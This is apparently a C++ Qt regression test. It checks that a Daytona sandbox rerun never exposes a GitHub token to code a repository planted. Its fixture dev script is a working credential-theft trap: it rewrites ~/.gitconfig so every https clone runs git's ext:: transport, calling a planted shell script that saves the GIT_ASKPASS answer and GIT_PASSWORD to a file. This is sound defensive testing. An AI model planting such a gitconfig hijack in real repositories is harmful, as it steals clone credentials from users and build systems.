// The GitHub token never enters a Daytona sandbox, least of all one in which repository code has
// run (issue 16, item 5). On Daytona the toolbox daemon that clones lives inside the sandbox, as the
// same user as the repository's scripts, with the same home, files and network; a rerun adopts the
// sandbox of the previous run. So a dev script can leave behind whatever the next clone will obey.
//
// Played here with the daemon's git-CLI clone as the emulator runs it (tests/support/daytona,
// Toolbox::cloneInSandbox: git in the sandbox, the sandbox user's ~/.gitconfig, the credentials
// through GIT_ASKPASS). The first preview of a private repository goes live, and its dev script
// writes ~/.gitconfig: every http(s) URL is rewritten to git's ext:: transport, which runs a script
// it also planted; that script asks the askpass helper for the password and keeps the answer in the
// home. Then the same project is previewed again, as Run again does: the sandbox is adopted and the
// repository cloned anew. The token must not be in that file, nor in any file of any sandbox, nor in
// any request a toolbox received; the second preview must still go live, at the repository's commit.
//
// The emulator runs its sandboxes as plain processes here: a Daytona sandbox is one machine, whose
// processes share one network and one home, and the daemon's clone reaches the git server on this
// machine's 127.0.0.1 as a real one reaches GitHub.

#include "AwaitCatching.h"
#include "DaytonaEmulator.h"
#include "FixtureRepository.h"
#include "GitHttpServer.h"
#include "SecretLeakScanner.h"
#include "sandbox/daytona/DaytonaProvider.h"
#include "workflow/PreviewWorkflow.h"
#include "workflow/StepJournal.h"

#include <QDirIterator>
#include <QFile>
#include <QJsonObject>
#include <QNetworkAccessManager>
#include <QNetworkProxy>
#include <QNetworkReply>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;
using forge::DaytonaProvider;
using forge::DaytonaSandboxOptions;
using forge::Failure;
using forge::OutputChannel;
using forge::PreviewWorkflow;
using forge::StepId;
using forge::test::DaytonaEmulator;
using forge::test::FixtureRepository;
using forge::test::GitHttpServer;
using forge::test::SecretLeakScanner;

namespace {

const QString Canary = u"ghp_CANARYdaytonarerun0123456789abcdefABC"_s;
const QString ProjectId = u"16161616-0005-4000-8000-000000000005"_s;
constexpr auto ApiKey = "token-isolation-key";
// What the planted script leaves in the sandbox's home.
constexpr auto StolenFile = ".forge-stolen";

template<typename T>
forge::test::Caught<Failure, T> await(QCoro::Task<T> task)
{
    return forge::test::awaitCatching<Failure>(std::move(task));
}

std::optional<Failure> awaitVoid(QCoro::Task<> task)
{
    return forge::test::awaitCatchingVoid<Failure>(std::move(task));
}

// The dev script: plants the configuration and the script, then serves, so that the preview goes
// live and nothing looks amiss. `ext::sh <script> %S` runs the script instead of fetching; git
// hands it its environment (GIT_ASKPASS, and the daemon's GIT_PASSWORD where it sets one).
const QByteArray HostileScript = R"(const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const home = os.homedir();
const steal = path.join(home, '.forge-steal.sh');
fs.writeFileSync(steal, '#!/bin/sh\n' +
  '{ "$GIT_ASKPASS" "Password for the clone: "; printf "%s" "$GIT_PASSWORD"; } > "$HOME/.forge-stolen" 2>/dev/null\n' +
  'exit 1\n', { mode: 0o755 });
fs.writeFileSync(path.join(home, '.gitconfig'),
  '[protocol "ext"]\n\tallow = always\n' +
  `[url "ext::sh ${steal} %S "]\n\tinsteadOf = https://\n\tinsteadOf = http://\n`);
console.log('PLANTED ' + path.join(home, '.gitconfig'));
const port = Number(process.env.PORT || 3000);
http.createServer((req, res) => res.end('hostile fixture served')).listen(port, '0.0.0.0', () => {
  console.log(`listening on port ${port}`);
});
)";

QByteArray fetchBody(const QUrl& url, const QMap<QByteArray, QByteArray>& headers)
{
    QNetworkAccessManager network;
    network.setProxy(QNetworkProxy::NoProxy);
    QNetworkRequest request(url);
    request.setTransferTimeout(10'000);
    for (auto it = headers.cbegin(); it != headers.cend(); ++it)
        request.setRawHeader(it.key(), it.value());
    std::unique_ptr<QNetworkReply> reply(network.get(request));
    QSignalSpy finished(reply.get(), &QNetworkReply::finished);
    if (!reply->isFinished() && !finished.wait(15'000))
        return {};
    return reply->readAll();
}

} // namespace

class TestDaytonaTokenIsolation : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void aRerunNeverHandsTheTokenToWhatTheRepositoryPlanted();

private:
    forge::PreviewRequest request() const;
    // Runs `command` in the sandbox's project folder through the provider; its standard output.
    QByteArray inSandbox(DaytonaProvider& daytona, const QString& id, const QString& command);

    QTemporaryDir m_work;
    std::unique_ptr<GitHttpServer> m_git;
    QUrl m_repositoryUrl;
    QString m_commit;
};

void TestDaytonaTokenIsolation::initTestCase()
{
    QVERIFY(m_work.isValid());
    const QString served = m_work.filePath(u"served"_s);
    FixtureRepository repository(m_work.filePath(u"hostile"_s));
    QVERIFY2(repository.initializeWithFiles(
                 {{u"package.json"_s, R"({ "name": "hostile-rerun", "version": "1.0.0", "private": true,
                        "scripts": { "dev": "node dev.js" } })"},
                  {u"dev.js"_s, HostileScript}}),
             qPrintable(repository.errorString()));
    QVERIFY2(repository.createBareClone(served, u"hostile"_s), qPrintable(repository.errorString()));
    m_commit = repository.commitId();
    m_git = std::make_unique<GitHttpServer>(served);
    QString error;
    QVERIFY2(m_git->listen(&error), qPrintable(error));
    // A private repository: exactly the header a clone with the token sends.
    m_git->requireAuthorization("basic " + QByteArray("x-access-token:" + Canary.toUtf8()).toBase64());
    m_repositoryUrl = m_git->repositoryUrl(u"hostile"_s);
}

forge::PreviewRequest TestDaytonaTokenIsolation::request() const
{
    forge::PreviewRequest request;
    request.repository = std::get<forge::RepoRef>(forge::RepoRef::parse(m_repositoryUrl.toString(), {}));
    request.projectId = ProjectId;
    request.authToken = Canary;
    request.readyTimeout = 2min;
    return request;
}

QByteArray TestDaytonaTokenIsolation::inSandbox(DaytonaProvider& daytona, const QString& id,
                                                const QString& command)
{
    QByteArray output;
    forge::CommandSpec spec;
    spec.argv = QStringList{u"sh"_s, u"-c"_s, command};
    spec.timeout = 30s;
    const auto ran =
        await(daytona.runCommand(id, spec, [&output](OutputChannel channel, const QByteArray& bytes) {
            if (channel == OutputChannel::Stdout)
                output += bytes;
        }));
    if (ran.error)
        return "(could not run: " + ran.error->message().toUtf8() + ")";
    return output;
}

void TestDaytonaTokenIsolation::aRerunNeverHandsTheTokenToWhatTheRepositoryPlanted()
{
    QTemporaryDir data;
    QVERIFY(data.isValid());
    DaytonaEmulator::Options emulatorOptions;
    emulatorOptions.dataDirectory = data.path();
    emulatorOptions.apiKeys = {QString::fromLatin1(ApiKey)};
    emulatorOptions.isolation = forge::LocalProvider::Isolation::None;
    DaytonaEmulator emulator(emulatorOptions);
    QVERIFY(emulator.listen());

    forge::daytona::DaytonaConfig config;
    config.apiKey = QString::fromLatin1(ApiKey);
    config.apiUrl = emulator.apiUrl();
    config.requestTimeout = 20s;
    DaytonaSandboxOptions options;
    options.gitHubHost = m_repositoryUrl.authority(); // the token is for this host
    DaytonaProvider daytona(config, options);
    daytona.setLogPollInterval(100ms);

    // First run: a fresh sandbox, the private repository, the dev script plants its trap.
    forge::InMemoryStepJournal firstJournal;
    PreviewWorkflow first(daytona, firstJournal, request());
    QStringList serverLines;
    connect(&first, &PreviewWorkflow::stepOutput, this,
            [&serverLines](StepId step, OutputChannel, const QString& line) {
                if (step == StepId::StartDevServer)
                    serverLines.append(line);
            });
    const auto live = await(first.run());
    QVERIFY2(!live.error,
             live.error ? qPrintable(live.error->message() + u" / "_s + live.error->advice()) : "");
    QVERIFY2(serverLines.join(u'\n').contains(u"PLANTED"_s), qPrintable(serverLines.join(u'\n')));
    QVERIFY(m_git->requestsWithAuthorization() > 0);
    const QString sandboxId = first.sandboxId();
    QVERIFY(!awaitVoid(first.stop()));

    // Run again: the same project adopts the same sandbox, whose home holds the trap.
    m_git->clearRequests();
    forge::InMemoryStepJournal secondJournal;
    PreviewWorkflow second(daytona, secondJournal, request());
    const auto again = await(second.run());
    QCOMPARE(second.sandboxId(), sandboxId);

    // What the planted script kept (in the sandbox's home, a folder of the emulator's data here).
    // The token must not be there, in any form.
    const SecretLeakScanner token(SecretLeakScanner::formsOf(Canary));
    QDirIterator kept(data.path(), {QString::fromLatin1(StolenFile)}, QDir::Files | QDir::Hidden,
                      QDirIterator::Subdirectories);
    while (kept.hasNext()) {
        QFile file(kept.next());
        QVERIFY(file.open(QIODevice::ReadOnly));
        QVERIFY2(
            !token.contains(file.readAll()),
            "the rerun's clone handed the GitHub token to a script the repository planted in the sandbox");
    }
    // Nor in any file of the sandbox (its home, its work folder), nor in any toolbox request.
    const QStringList files = token.filesContainingSecrets(data.path());
    QVERIFY2(files.isEmpty(), qPrintable(u"the token is in the sandbox: "_s + files.join(u", "_s)));
    for (const QJsonObject& clone : emulator.gitCloneBodies())
        QVERIFY2(!clone.contains(u"password"_s), "a clone with the token was sent to the sandbox's toolbox");
    for (const auto& recorded : emulator.requests())
        QVERIFY2(!token.contains(recorded.body) && !token.contains(recorded.target),
                 qPrintable(u"the token went to the toolbox with "_s + QString::fromLatin1(recorded.method) +
                            u' ' + QString::fromLatin1(recorded.path())));

    // And the rerun works: the private repository at its commit, served.
    QVERIFY2(!again.error,
             again.error ? qPrintable(again.error->message() + u" / "_s + again.error->advice()) : "");
    QVERIFY(m_git->requestsWithAuthorization() > 0);
    const QByteArray head = inSandbox(daytona, sandboxId, u"git rev-parse HEAD"_s).trimmed();
    QCOMPARE(QString::fromLatin1(head), m_commit);
    QCOMPARE(fetchBody(*again.value, second.previewEndpoint().headers), QByteArray("hostile fixture served"));
    QVERIFY(!awaitVoid(second.stop()));
}

QTEST_GUILESS_MAIN(TestDaytonaTokenIsolation)
#include "tst_daytonatokenisolation.moc"
